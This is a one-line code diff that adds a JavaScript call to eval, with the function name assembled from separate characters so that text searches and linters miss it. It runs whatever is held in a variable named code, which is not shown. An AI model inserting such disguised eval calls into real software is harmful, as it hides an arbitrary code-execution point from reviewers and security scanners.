@@ -1,0 +1,1 @@
+globalThis[['e', 'v', 'a', 'l'].join('')](code);
